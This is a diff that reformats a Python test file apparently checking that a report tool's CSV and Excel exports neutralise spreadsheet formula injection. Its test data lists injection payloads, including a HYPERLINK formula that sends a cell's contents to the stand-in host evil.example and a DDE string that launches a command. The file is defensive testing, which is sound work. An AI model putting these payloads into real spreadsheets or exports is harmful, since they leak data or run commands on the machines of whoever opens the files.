@@ -14,8 +14,14 @@ import rbtools
 from coopdocs.compute.spreadsheets import neutralise, to_csv_text, to_xlsx_bytes
 from coopdocs.compute.tables import Frame
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
-           "\t=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+]
 
 
 def _sheet(data: bytes) -> str:
@@ -33,11 +39,16 @@ def test_text_is_text_in_a_workbook():
     texts = [row[0].value for row in sheet.iter_rows(min_row=3)]
     assert texts == HOSTILE
     assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=3))
-    assert [row[1].value for row in sheet.iter_rows(min_row=3)] == [-5] * len(HOSTILE)  # numbers stay numbers
+    assert [row[1].value for row in sheet.iter_rows(min_row=3)] == [-5] * len(
+        HOSTILE
+    )  # numbers stay numbers
 
 
 def test_formula_triggers_are_neutralised_in_csv():
-    frame = Frame(["text", "number"], [{"text": t, "number": -5} for t in HOSTILE] + [{"text": "a=b", "number": 1.0}])
+    frame = Frame(
+        ["text", "number"],
+        [{"text": t, "number": -5} for t in HOSTILE] + [{"text": "a=b", "number": 1.0}],
+    )
     rows = list(csv.reader(io.StringIO(to_csv_text(frame), newline="")))[1:]
     assert [r[0] for r in rows] == ["'" + t for t in HOSTILE] + ["a=b"]
     assert [r[1] for r in rows] == ["-5"] * len(HOSTILE) + ["1"]
@@ -51,7 +62,13 @@ def test_hostile_titles_in_the_data_reach_the_tables_as_text(tmp_path):
     with path.open(encoding="utf-8", newline="") as fh:
         rows = list(csv.DictReader(fh))
     header = list(rows[0])
-    titles = ['=HYPERLINK("http://evil.example","Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)"]
+    titles = [
+        '=HYPERLINK("http://evil.example","Click")',
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A2)",
+    ]
     for row, title in zip(rows, titles):
         row["title"] = title
     buf = io.StringIO()
@@ -61,12 +78,38 @@ def test_hostile_titles_in_the_data_reach_the_tables_as_text(tmp_path):
     path.write_text(buf.getvalue(), encoding="utf-8")
     cfg = yaml.safe_load((project / "config" / "config.yaml").read_text(encoding="utf-8"))
     with rbtools._cwd(project):
-        rbtools._cli("prepare", "--data", "data", "--bundle", "build/data/bundle.json", "--contexts", "build/context",
-                     "--organisation", cfg["organisation"], "--epoch", str(rbtools.EPOCH))
-        rbtools._cli("tables", "--bundle", "build/data/bundle.json", "--tables-dir", "reports/tables",
-                     "--figures-dir", "reports/figures", "--context", "build/context/tables/comparative-tables.json",
-                     "--bib", "build/context/tables/comparative-tables.bib.json", "--config", "config/config.yaml",
-                     "--epoch", str(rbtools.EPOCH), "--cache-dir", "build/cache/tables")
+        rbtools._cli(
+            "prepare",
+            "--data",
+            "data",
+            "--bundle",
+            "build/data/bundle.json",
+            "--contexts",
+            "build/context",
+            "--organisation",
+            cfg["organisation"],
+            "--epoch",
+            str(rbtools.EPOCH),
+        )
+        rbtools._cli(
+            "tables",
+            "--bundle",
+            "build/data/bundle.json",
+            "--tables-dir",
+            "reports/tables",
+            "--figures-dir",
+            "reports/figures",
+            "--context",
+            "build/context/tables/comparative-tables.json",
+            "--bib",
+            "build/context/tables/comparative-tables.bib.json",
+            "--config",
+            "config/config.yaml",
+            "--epoch",
+            str(rbtools.EPOCH),
+            "--cache-dir",
+            "build/cache/tables",
+        )
     seen_xlsx, seen_csv, quoted = set(), set(), set()
     for workbook in sorted((project / "reports" / "tables").glob("*.xlsx")):
         sheet = _sheet(workbook.read_bytes())
@@ -76,7 +119,9 @@ def test_hostile_titles_in_the_data_reach_the_tables_as_text(tmp_path):
         with table.open(encoding="utf-8", newline="") as fh:
             for row in csv.reader(fh):
                 for cell in row:
-                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{table.name}: {cell!r}"
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (
+                        f"{table.name}: {cell!r}"
+                    )
                     seen_csv |= {t for t in titles if t in cell}
                     quoted |= {t for t in titles if cell == "'" + t}
     # Every title is in the tables, as typed; those alone in a CSV cell have a single quote in front.
